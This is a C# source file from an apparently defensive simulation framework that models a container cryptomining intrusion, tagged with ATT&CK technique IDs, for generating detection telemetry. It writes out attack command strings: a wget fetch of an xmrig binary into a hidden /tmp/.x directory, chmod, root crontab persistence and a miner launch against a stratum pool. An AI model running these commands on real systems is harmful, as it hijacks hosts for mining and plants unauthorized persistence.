namespace SysFlow.Simulation;

/// <summary>A container downloads a miner, makes it executable, runs it and adds it to its crontab.</summary>
internal static class CryptoMiner
{
    private static readonly Endpoint Server = new(Ipv4.From(203, 0, 113, 80), 80);
    private static readonly Endpoint Pool = new(Ipv4.From(203, 0, 113, 81), 3_333);

    public static IEnumerable<Beat> Run(Cluster cluster) =>
        cluster.Start("default", "jobs", Images.Alpine, "/bin/busybox /tmp/.x/run.sh", Mine);

    private static IEnumerable<Beat> Mine(Workspace container)
    {
        NodeProcess shell = container.Entry;
        shell.MakeDirectory("/tmp/.x");
        yield return Beat.Play(Intruder.Play(shell,
        [
            new("Number of processors", "T1082", "/usr/bin/nproc"),
            new("Download", "T1105", "/usr/bin/wget -q -O /tmp/.x/kdevtmpfsi http://203.0.113.80/xmrig",
                wget => Intruder.Download(wget, Server, "/tmp/.x/kdevtmpfsi", 3_140_000)),
            new("Make executable", "T1222.002", "/bin/chmod +x /tmp/.x/kdevtmpfsi"),
            new("Crontab", "T1053.003", "/usr/bin/crontab -", cron => cron.WriteFile("/etc/crontabs/root", 61)),
        ], TimeSpan.FromSeconds(1)));
        NodeProcess miner = Intruder.Begin(shell, new Move(
            "Mining", "T1496", "/tmp/.x/kdevtmpfsi -o stratum+tcp://203.0.113.81:3333 --donate-level 1"));
        miner.StartThreads(4);
        Intruder.Talk(miner, Pool);
        yield return TimeSpan.FromSeconds(35);
        miner.EndThreads(4);
        miner.Kill(9);
        shell.Exit(137);
    }
}
